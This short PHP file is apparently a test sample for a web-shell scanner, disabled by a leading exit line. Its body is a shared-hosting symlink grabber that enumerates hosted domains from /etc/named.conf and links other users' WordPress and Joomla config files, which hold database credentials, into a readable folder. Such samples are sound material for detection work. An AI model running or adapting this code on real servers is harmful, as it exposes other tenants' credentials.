<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
@mkdir('sym', 0777);
$d = file('/etc/named.conf');
foreach ($d as $line) {
  if (preg_match('/zone "(.*?)"/', $line, $m)) {
    $owner = posix_getpwuid(@fileowner('/etc/valiases/' . $m[1]));
    @symlink('/home/' . $owner['name'] . '/public_html/wp-config.php', 'sym/' . $m[1] . '-wp.txt');
    @symlink('/home/' . $owner['name'] . '/public_html/configuration.php', 'sym/' . $m[1] . '-joomla.txt');
  }
}
